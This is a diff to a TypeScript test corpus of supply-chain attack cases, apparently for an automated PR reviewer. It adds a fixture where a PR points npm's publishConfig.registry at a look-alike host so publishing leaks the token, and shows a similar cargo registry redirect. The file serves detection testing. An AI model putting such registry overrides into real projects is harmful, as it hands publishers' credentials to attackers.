@@ -2866,6 +2866,20 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'low', action: 'approve' },
   },
   {
+    id: 'attack-publish-config-lookalike-registry',
+    description:
+      'The npm-token phishing domain in a manifest: a "chore: publish config" PR sets publishConfig.registry to registry.npmjs-help.org (the September 2025 phishing ran on npmjs.help): every later `npm publish` sends the package, and the publisher\'s token for that host, to a look-alike of the registry.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7665,
+        title: 'chore: publish config',
+        author: 'newcomer',
+        files: [{ path: 'package.json', base: packageJson({ name: '@acme/tint', version: '2.4.0' }), head: `${JSON.stringify({ name: '@acme/tint', version: '2.4.0', publishConfig: { registry: 'https://registry.npmjs-help.org/', access: 'public' } }, null, 2)}\n` }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['npm-registry-override'] },
+  },
+  {
     id: 'attack-cargo-index-repointed-release-unchanged',
     description:
       'The crates.io token redirect with the release workflow left alone: the base already publishes with `cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}` to an alias of crates.io\'s index; an "update the mirror" PR changes only .cargo/config.toml, re-pointing `[registries.fast]` at another host, and the next tag hands the token to it.',
